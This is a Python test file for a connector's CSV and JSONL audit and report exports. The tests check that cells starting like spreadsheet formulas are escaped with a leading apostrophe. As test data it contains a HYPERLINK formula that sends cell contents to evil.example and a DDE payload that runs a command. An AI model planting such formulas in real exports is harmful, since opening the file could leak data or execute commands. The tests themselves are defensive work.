"""CSV exports opened in a spreadsheet show someone else's text as text, never as a formula."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime

from connector import audit
from connector.audit.export import write_csv, write_jsonl
from connector.store.db import make_engine, migrate
from console.reports import Report

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Details")'


def test_an_audit_records_text_that_starts_a_formula_is_exported_as_text(tmp_path):
    engine = make_engine(f"sqlite:///{tmp_path / 'a.db'}")
    migrate(engine)
    record = {"platform": "jira", "ticket": {"id": "10040", "key": "TES-41"}, "outcome": "failed",
              "detail": FORMULA, "priority": {"why": "-1 day overdue"}}  # fmt: skip
    with engine.begin() as conn:
        audit.append(conn, record, at=datetime(2026, 12, 2, 9, 0, tzinfo=UTC))
    exported = list(audit.records(engine))
    engine.dispose()
    out = io.StringIO()
    write_csv(iter(exported), out)
    (row,) = csv.DictReader(io.StringIO(out.getvalue()))
    assert row["detail"] == "'" + FORMULA and row["priority_why"] == "'-1 day overdue"
    assert row["ticket_key"] == "TES-41" and row["seq"] == "1"  # the rest as it is
    lines = io.StringIO()
    write_jsonl(iter(exported), lines)
    assert json.loads(lines.getvalue())["detail"] == FORMULA  # the JSON export is the record as recorded


def test_a_reports_csv_keeps_a_label_text_and_a_number_a_number():
    report = Report("labels", "Labels", "", ("label", "escalations", "change"),
                    [("@SUM(1+1)*cmd|' /C calc'!A0", 3, -2), ("outage", 5, 1)], "SELECT …")  # fmt: skip
    assert report.csv().splitlines() == [
        "label,escalations,change",
        "'@SUM(1+1)*cmd|' /C calc'!A0,3,-2",
        "outage,5,1",
    ]
